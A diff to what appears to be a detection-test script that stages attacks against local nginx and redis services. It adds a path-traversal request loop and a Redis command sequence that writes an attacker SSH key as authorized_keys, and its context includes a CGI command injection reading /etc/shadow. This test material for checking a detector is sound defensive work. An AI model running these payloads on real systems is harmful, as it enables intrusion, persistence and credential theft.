@@ -17,7 +17,9 @@ reverse shell|nginx|new process|
 ptrace injection|redis|new process|restart
 module runs a shell|redis|service turned|restart
 module searches files|redis|service turned|restart
-worker runs a shell|nginx|service turned|restart'
+worker runs a shell|nginx|service turned|restart
+path traversal|nginx|other files|
+key written|redis|other files|restart'
 
 # The service's own process does what other programs of its container do, or what it does
 # itself to other files: caught in some runs, missed in others. With HARD=1 they count, too.
@@ -42,6 +44,17 @@ reverse_shell() {
 	wait $!
 }
 
+# The worker does what it always does, to files that it never read.
+path_traversal() {
+	local name names=()
+
+	for name in machine-id hosts login.defs adduser.conf debian_version deluser.conf issue \
+		ld.so.conf hostname host.conf; do
+		names+=("http://127.0.0.1/brand../$name")
+	done
+	curl -s --path-as-is "${names[@]}" "${names[@]}" "${names[@]}"
+}
+
 # attack NAME: carry it out; returns when it is over
 attack() {
 	case $1 in
@@ -64,6 +77,13 @@ attack() {
 	'worker runs a shell')
 		curl -s -G --data-urlencode 'cmd=id; cat /etc/shadow; ls -laR /etc | head -n 40' \
 			http://127.0.0.1/cgi ;;
+	'path traversal') path_traversal ;;
+	'key written')
+		redis-cli config set dir /var/tmp
+		redis-cli config set dbfilename authorized_keys
+		redis-cli set key 'ssh-ed25519 AAAA attacker'
+		redis-cli save
+		redis-cli save ;;
 	'worker reads processes')
 		curl -s "http://127.0.0.1/cgi?port=$LOOT_PORT" ;;
 	esac
